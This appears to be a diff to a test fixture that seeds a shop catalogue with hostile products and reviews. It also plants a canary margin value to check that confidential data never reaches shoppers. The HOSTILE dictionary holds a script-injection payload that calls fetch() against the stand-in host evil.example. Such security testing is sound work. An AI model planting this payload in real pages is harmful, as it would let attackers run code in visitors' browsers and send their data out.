@@ -21,6 +21,8 @@ FLAGS = [
     "--disable-background-networking", "--no-first-run",
 ]  # fmt: skip
 PASSWORD = "the agents' password"
+CANARY_MARGIN = "0.7391"
+"""Of every product of the hostile store; nothing that a shopper gets may hold it."""
 EVIL = "http://evil.example"
 HOSTILE = {
     "hostile-script": f"<script>fetch('{EVIL}/s')</script> tent",
@@ -94,7 +96,7 @@ def hostile_store(tmp_path_factory, tiny_files, tiny_config):
         {
             "product_id": product_id, "title": title, "description": title, "brand": title,
             "category": ["Outdoor", "Camping", "Tents"], "price": 99.0, "currency": "EUR",
-            "stock": 9, "margin": 0.77, "rating": 4.0, "rating_count": 3,
+            "stock": 9, "rating": 4.0, "rating_count": 3,
             "attributes": {"material": title[:80]},
         }
         for product_id, title in HOSTILE.items()
@@ -104,8 +106,9 @@ def hostile_store(tmp_path_factory, tiny_files, tiny_config):
         "review_id": "hostile-review", "product_id": "hostile-script", "rating": 5,
         "text": f"Very good and dry tent, {attack} and I would buy it again tomorrow.",
     }  # fmt: skip
-    extra = "".join(json.dumps(row) + "\n" for row in rows)
-    products.write_text(tiny_files["products"].read_text("utf-8") + extra, "utf-8")
+    rows += [json.loads(x) for x in tiny_files["products"].read_text("utf-8").splitlines()]
+    margin = {"margin": float(CANARY_MARGIN)}
+    products.write_text("".join(json.dumps({**row, **margin}) + "\n" for row in rows), "utf-8")
     text = tiny_files["reviews"].read_text("utf-8") + json.dumps(review) + "\n"
     reviews.write_text(text, "utf-8")
     shop = tiny_config.shop.model_copy(update={"name": "hostile"})
